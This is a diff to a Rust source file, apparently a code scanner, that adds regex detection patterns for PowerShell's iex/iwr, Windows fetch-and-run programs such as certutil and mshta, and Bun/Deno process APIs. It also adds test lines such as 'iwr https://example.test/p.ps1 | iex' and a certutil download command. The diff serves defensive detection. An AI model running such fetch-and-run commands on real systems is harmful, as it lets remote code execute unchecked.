@@ -65,6 +65,11 @@ pub const CLASSES: &[(&str, &str)] = &[
             r#"|(?:^|[^?])<!@?\("#,
             // Shell: a pipe into a shell, `sh -c`, a reverse shell.
             r#"|\|\s*(?:sudo\s+)?(?:ba|z|k|da)?sh(?:\s|$|[;&"'])|\b(?:ba|z|k|da)?sh\s+-c\b|/dev/(?:tcp|udp)/"#,
+            // Windows: PowerShell's run-this-text and fetchers by alias, and
+            // the system programs that fetch or run what they are given.
+            r#"|\b(?:iex|iwr|Invoke-Expression|Start-Process)\b|\b(?:certutil|bitsadmin|mshta|rundll32|regsvr32|wscript|cscript)(?:\.exe)?\b"#,
+            // Bun's and Deno's own process APIs.
+            r#"|\bBun\.spawn(?:Sync)?\b|\bDeno\.(?:run|Command)\b"#,
         ),
     ),
     (
@@ -533,6 +538,12 @@ mod tests {
                 "process",
             ),
             ("curl -s https://example.test/p | sudo bash", "process"),
+            ("iwr https://example.test/p.ps1 | iex", "process"),
+            (
+                "certutil -urlcache -f https://example.test/a.exe a.exe",
+                "process",
+            ),
+            ("const p = Bun.spawn(['sh', '-c', cmd]);", "process"),
             ("const m = require(name);", "dynamic-code"),
             ("await import(`./${x}.js`)", "dynamic-code"),
             ("(0, eval)(src)", "dynamic-code"),
